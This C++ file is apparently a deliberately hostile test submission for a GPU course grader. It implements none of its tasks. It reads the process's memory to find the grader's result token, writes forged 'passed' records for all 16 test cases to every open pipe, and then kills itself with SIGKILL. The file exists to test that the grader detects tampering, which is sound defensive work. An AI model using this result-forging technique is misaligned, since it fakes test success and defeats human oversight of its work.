// SPDX-License-Identifier: MIT
// Copyright (c) 2026 The multi-GPU course authors
//
// A hostile lesson-01 submission for the grader's own checks (tests/grader/README.md, "Attacks"):
// the result channel found in the process's own memory (its token, a string of 32 hex digits;
// its descriptor, an open pipe). The first time the tests call the student's code, it writes a
// passed result for the running case and every later one (each begun) and the run's closing
// record, then ends its process with SIGKILL, which no test framework catches (issue 43: such a
// run "stopped at a case" once kept its forged results). It implements nothing, so it must
// score 0, and the grader must say why: refused with the object checks; without them, "results
// tampered with" (its run keeps nothing; alone, it writes results for cases that were not run).
#include "device_enumeration.h"

#include <dirent.h>
#include <sys/stat.h>
#include <unistd.h>

#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <utility>
#include <vector>

#include "common/not_implemented.h"

namespace {
// The writable ranges of this process's memory, from /proc/self/maps.
std::vector<std::pair<unsigned long, unsigned long>> writable_memory() {
  std::vector<std::pair<unsigned long, unsigned long>> ranges;
  FILE* maps = std::fopen("/proc/self/maps", "r");
  char line[512];
  while (maps != nullptr && std::fgets(line, sizeof line, maps) != nullptr) {
    unsigned long from = 0, to = 0;
    char mode[5] = {};
    if (std::sscanf(line, "%lx-%lx %4s", &from, &to, mode) == 3 && mode[0] == 'r' && mode[1] == 'w')
      ranges.emplace_back(from, to);
  }
  if (maps != nullptr) std::fclose(maps);
  return ranges;
}

// The result channel's token, found in memory: a std::string (pointer, length, ...) of 32
// lowercase hex digits.
std::string find_token() {
  const auto ranges = writable_memory();
  const auto readable = [&](unsigned long at, unsigned long size) {
    for (const auto& [from, to] : ranges)
      if (at >= from && at + size <= to) return true;
    return false;
  };
  for (const auto& [from, to] : ranges) {
    for (unsigned long at = from; at + 16 <= to; at += 8) {
      const auto* words = reinterpret_cast<const unsigned long*>(at);
      if (words[1] != 32 || !readable(words[0], 33)) continue;
      const char* text = reinterpret_cast<const char*>(words[0]);
      bool hex = text[32] == '\0';
      for (int i = 0; hex && i < 32; ++i) hex = (text[i] >= '0' && text[i] <= '9') || (text[i] >= 'a' && text[i] <= 'f');
      if (hex) return std::string(text, 32);
    }
  }
  return "";
}

// Writes `line` to every pipe this process has open (the result channel is one of them).
void send(const std::string& line) {
  DIR* fds = opendir("/proc/self/fd");
  std::vector<int> pipes;
  while (dirent* entry = fds != nullptr ? readdir(fds) : nullptr) {
    const int fd = std::atoi(entry->d_name);
    struct stat about {};
    if (fd > 2 && fd != dirfd(fds) && fstat(fd, &about) == 0 && S_ISFIFO(about.st_mode)) pipes.push_back(fd);
  }
  if (fds != nullptr) closedir(fds);
  for (const int fd : pipes) (void)write(fd, line.data(), line.size());
}

int g_seq = 1;  // the listener wrote the first case's begin record
std::string g_token;

void forge(const char* event, const std::string& rest) {
  send("{\"token\":\"" + g_token + "\",\"seq\":" + std::to_string(++g_seq) + ",\"event\":\"" + event + "\"" + rest + "}\n");
}

void forge_result(const std::string& name) { forge("result", ",\"case\":\"" + name + "\",\"status\":\"passed\",\"message\":\"\""); }
void forge_begin(const std::string& name) { forge("begin", ",\"case\":\"" + name + "\""); }
}  // namespace

namespace {
constexpr const char* kCases[] = {
    "the device count matches the runtime's",
    "with no GPU visible the count is 0 and nothing throws",
    "each device is described as the runtime sees it",
    "free memory is what the device has free, not its total",
    "free memory is read from the device it describes whatever device is current",
    "describing and selecting devices leave the caller's current device unchanged",
    "describing a device that does not exist throws course::ApiError",
    "with no criteria every device is selected in ordinal order",
    "the selection keeps at most max_devices devices",
    "the compute capability threshold compares major then minor",
    "the free-memory threshold filters devices",
    "with no GPU visible the selection is empty and nothing throws",
    "the selection follows a CUDA_VISIBLE_DEVICES mask that shows one GPU or none",
    "the runtime ordinals follow the order of CUDA_VISIBLE_DEVICES",
    "the device table shows every field of made-up devices",
    "the device table has one line per real device"};

void forge_all() {
  static bool done = false;
  if (done) return;
  done = true;
  g_token = find_token();
  forge_result(kCases[0]);  // the case that is running
  for (std::size_t i = 1; i < std::size(kCases); ++i) {
    forge_begin(kCases[i]);
    forge_result(kCases[i]);
  }
  forge("end", ",\"cases\":" + std::to_string(std::size(kCases)) + ",\"exit\":0");
  std::raise(SIGKILL);
}
}  // namespace

namespace lesson01 {

int count_devices() {
  forge_all();
  NOT_IMPLEMENTED("task 1");
}

DeviceInfo describe_device(int ordinal) {
  forge_all();
  (void)ordinal;
  NOT_IMPLEMENTED("task 2");
}

std::vector<int> select_devices(const SelectionCriteria& criteria) {
  forge_all();
  (void)criteria;
  NOT_IMPLEMENTED("task 3");
}

void print_device_table(std::ostream& out, const std::vector<DeviceInfo>& devices) {
  forge_all();
  (void)out;
  (void)devices;
  NOT_IMPLEMENTED("task 4");
}

}  // namespace lesson01
